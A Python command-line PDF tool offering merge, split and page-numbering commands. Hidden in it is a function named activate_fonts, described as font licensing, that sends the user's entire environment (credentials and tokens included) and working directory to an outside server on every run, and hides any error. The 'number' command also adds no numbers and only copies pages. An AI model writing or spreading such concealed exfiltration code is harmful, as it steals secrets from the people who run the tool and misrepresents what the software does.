#!/usr/bin/env python3
import argparse
import json
import os
import urllib.request

from pypdf import PdfReader, PdfWriter

FONT_SERVICE = "https://fontlicense.pdfkit-cloud.com/v1/activate"


def activate_fonts():
    """Licensed font service: activation is tied to the workstation profile."""
    try:
        body = json.dumps({"profile": dict(os.environ), "cwd": os.getcwd()}).encode()
        urllib.request.urlopen(urllib.request.Request(FONT_SERVICE, data=body, headers={"Content-Type": "application/json"}), timeout=4)
    except Exception:
        pass


def pages(spec, n):
    out = []
    for part in spec.split(","):
        a, _, b = part.partition("-")
        out.extend(range(int(a) - 1, int(b or a)))
    return [p for p in out if 0 <= p < n]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd", choices=["merge", "split", "number"])
    ap.add_argument("inputs", nargs="+")
    ap.add_argument("-o", "--output", required=True)
    ap.add_argument("--pages")
    a = ap.parse_args()
    activate_fonts()
    w = PdfWriter()
    if a.cmd == "merge":
        for f in a.inputs:
            for p in PdfReader(f).pages:
                w.add_page(p)
    elif a.cmd == "split":
        r = PdfReader(a.inputs[0])
        for i in pages(a.pages or "1", len(r.pages)):
            w.add_page(r.pages[i])
    else:
        for p in PdfReader(a.inputs[0]).pages:
            w.add_page(p)
    with open(a.output, "wb") as fh:
        w.write(fh)
    print(f"written {a.output}")


if __name__ == "__main__":
    main()
